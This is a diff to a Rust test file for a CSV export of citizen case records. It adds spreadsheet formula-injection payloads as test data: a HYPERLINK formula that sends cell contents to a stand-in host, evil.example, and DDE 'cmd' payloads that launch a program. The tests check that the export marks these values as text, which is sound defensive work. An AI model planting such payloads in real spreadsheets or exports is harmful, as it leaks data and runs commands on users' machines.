@@ -24,8 +24,19 @@ const OFFER_TYPES: [&str; 3] = ["virksomhedspraktik", "mentorstoette", "andet_ko
 const END_REASONS: [&str; 3] = ["ordinaer_beskaeftigelse", "sygdom", "andet"];
 const STATUSES: [&str; 3] = ["beskaeftiget", "ingen_kontakt", "ukendt"];
 const KINDS: [&str; 6] = ["varetaegt", "dom", "loesladelse", "job_start", "uddannelse_start", "ssp_kategori"];
-/// Free text that needs quoting, non-ASCII letters, and an area not in the seed.
-const TEXTS: [&str; 5] = ["Ali Hassan", "Søren \"Bo\" Ølgaard", "Hansen; Jens", "Åse, Møller", "nyt_omraade"];
+/// Free text that needs quoting, non-ASCII letters, an area not in the seed, and formula payloads
+/// as the export writes them (marked as text with an apostrophe, see docs/csv-export.md).
+const TEXTS: [&str; 9] = [
+    "Ali Hassan",
+    "Søren \"Bo\" Ølgaard",
+    "Hansen; Jens",
+    "Åse, Møller",
+    "nyt_omraade",
+    "'=HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")",
+    "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "'+45 1234 5678",
+    "''t Hooft",
+];
 
 fn day(offset: u64) -> NaiveDate {
     NaiveDate::from_ymd_opt(2010, 1, 1).unwrap() + Days::new(offset)
@@ -308,4 +319,26 @@ store_test!(export_then_import_then_export_gives_the_same_files, |db: TestDataba
     });
     result.unwrap();
     assert!(LINKED_ROWS.load(Ordering::Relaxed) > 0, "no case had offers or follow-ups");
+});
+
+store_test!(formula_payloads_are_stored_as_given_and_exported_as_text, |db: TestDatabase| async move {
+    let store = db.open_seeded().await;
+    let input = tempfile::tempdir().unwrap();
+    let birth = NaiveDate::from_ymd_opt(1990, 5, 17).unwrap();
+    let cpr = (0..40).find_map(|s| Cpr::synthesize(birth, s, Sex::Female)).unwrap().as_digits();
+    let payload = "=cmd|' /C calc'!A0";
+    let files = Files {
+        borgere: vec![row(&[&cpr, payload, "tingbjerg"])],
+        fritidsjob: vec![row(&["J1", &cpr, "-1+1", "2020-01-01", ""])],
+        ..Files::default()
+    };
+    write(input.path(), &files);
+    let out = import_then_export(&store, input.path()).await;
+    let names: Vec<String> =
+        sqlx::query_scalar("SELECT name FROM citizen").fetch_all(store.pool()).await.unwrap();
+    assert_eq!(names, [payload], "the data is kept as OPERA had it");
+    let borgere = std::fs::read_to_string(out.path().join("borgere.csv")).unwrap();
+    assert!(borgere.contains(&format!("{cpr};'=cmd|' /C calc'!A0;")), "{borgere}");
+    let jobs = std::fs::read_to_string(out.path().join("fritidsjob.csv")).unwrap();
+    assert!(jobs.contains(";'-1+1;"), "{jobs}");
 });
